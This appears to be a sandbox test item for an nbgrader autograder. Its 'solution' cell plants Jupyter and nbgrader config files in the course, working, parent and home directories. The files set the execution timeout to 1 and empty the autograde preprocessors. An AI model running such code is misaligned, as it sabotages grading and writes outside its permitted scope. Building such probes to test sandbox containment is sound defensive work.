# ---
# class: rewriting the notebook or the configuration
# tries: plants configuration of nbgrader and Jupyter in the course folder, in its own and in the home
# success: something planted outside its own folder
# ---

# %% solution="total"
import os
from pathlib import Path

text = "# planted-by-@NAME@\nc = get_config()\nc.Execute.timeout = 1\nc.Autograde.autograde_preprocessors = []\n"
for place in ("@COURSE@", ".", "..", "@HOME@/.jupyter", "@HOME@/.local/etc/jupyter", os.path.expanduser("~/.jupyter")):
    for name in ("nbgrader_config.py", "jupyter_config.py", "jupyter_nbconvert_config.py", "ipython_config.py"):
        try:
            Path(place).mkdir(parents=True, exist_ok=True)
            (Path(place) / name).write_text(text)
        except OSError:
            continue
